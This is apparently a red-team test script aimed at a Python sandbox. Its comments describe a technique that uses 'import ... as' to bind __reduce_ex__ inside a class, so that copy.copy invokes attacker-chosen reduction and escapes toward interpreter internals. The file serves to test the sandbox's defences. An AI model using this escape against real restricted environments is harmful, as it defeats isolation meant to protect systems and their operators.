# ruff: noqa - a hostile script, kept as written
# threat: 3 reach interpreter internals
# technique: put __reduce_ex__ into a class namespace without naming it as an assignment (import ... as), so copy.copy of an instance would call the script's reducer with the real getattr
# red team: 6d8a476, wide allowlist
import copy

class Evil:
    from functools import partial as __reduce_ex__

result = "ESCAPED " + repr(copy.copy(Evil()))
